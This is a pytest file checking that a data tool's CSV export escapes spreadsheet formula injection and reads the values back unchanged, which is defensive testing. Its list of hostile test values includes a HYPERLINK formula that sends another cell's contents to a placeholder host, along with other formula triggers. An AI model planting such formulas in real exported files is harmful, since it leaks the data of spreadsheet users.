"""CSV injection: every CSV the tool writes neutralises spreadsheet formulas, and its own readers undo it."""
from __future__ import annotations

import csv

import numpy as np
import pandas as pd
import pytest

from oncotransfer.io import FORMULA_START, atomic_to_csv, csv_cell, csv_value, read_csv

HOSTILE = ['=HYPERLINK("http://x/?"&A2,"open")', "+1+1", "-1", "@SUM(A1)", "\tTAB", "\rCR", "'=already", "''+two",
           "'plain", "a.png", "", "-", "=", "@"]


@pytest.mark.parametrize("text", HOSTILE)
def test_cell_round_trips_and_no_cell_starts_with_a_trigger(text: str) -> None:
    cell = csv_cell(text)
    assert csv_value(cell) == text
    assert cell[:1] not in FORMULA_START


def test_numbers_are_not_cells_to_escape() -> None:
    assert csv_cell(-1) == -1 and csv_cell(-0.5) == -0.5 and csv_cell(None) is None


def test_written_csv_has_no_live_formula_and_reads_back_equal(tmp_path) -> None:
    df = pd.DataFrame({"path": HOSTILE, "label": ["-1"] * len(HOSTILE), "prob_=x": np.linspace(-1, 1, len(HOSTILE)),
                       "fold": np.arange(-3, len(HOSTILE) - 3)})
    path = tmp_path / "p.csv"
    atomic_to_csv(df, path, index=False)
    with open(path, newline="") as f:
        rows = list(csv.reader(f))
    text_cells = [row[0] for row in rows[1:]] + [row[1] for row in rows[1:]]
    assert not [c for c in text_cells if c[:1] in FORMULA_START]
    assert rows[1][3] == "-3"  # a negative number in a numeric column stays a number
    back = read_csv(path, dtype={"path": str, "label": str}, keep_default_na=False)
    assert back["path"].tolist() == HOSTILE and back["label"].tolist() == ["-1"] * len(HOSTILE)
    assert back["prob_=x"].dtype == float and back["fold"].tolist() == df["fold"].tolist()


def test_column_names_are_escaped_too(tmp_path) -> None:
    atomic_to_csv(pd.DataFrame({"=cmd": ["a"]}), tmp_path / "c.csv", index=False)
    assert (tmp_path / "c.csv").read_text().startswith("'=cmd")
    assert read_csv(tmp_path / "c.csv").columns.tolist() == ["=cmd"]


def test_manifest_written_by_the_tool_reads_back_as_labels(tmp_path) -> None:
    """A manifest the tool wrote (tiles, cells) is read by the manifest reader: labels like "-1" come back."""
    from oncotransfer.data.manifest import read_table
    atomic_to_csv(pd.DataFrame({"path": ["=a.png", "b.png"], "label": ["-1", "+1"]}), tmp_path / "m.csv", index=False)
    df = read_table(tmp_path / "m.csv", {"path", "label"}, "path,label")
    assert df["path"].tolist() == ["=a.png", "b.png"] and df["label"].tolist() == ["-1", "+1"]
